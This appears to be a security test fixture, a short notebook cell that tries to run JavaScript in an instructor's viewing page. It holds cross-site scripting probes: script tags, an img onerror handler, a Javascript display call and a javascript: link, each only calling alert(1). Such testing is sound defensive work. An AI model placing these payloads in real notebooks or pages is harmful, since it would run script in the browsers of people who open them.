# Tries: to run JavaScript in the page that the instructor opens.
# Expect: double 2, largest 2
# Page: <script>alert
# %%
from IPython.display import HTML, Javascript, display

display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)>"), Javascript("alert(1)"))
# %% why
# Because <script>alert(1)</script> <img src=x onerror="alert(1)"> [it](javascript:alert(1)) is so.
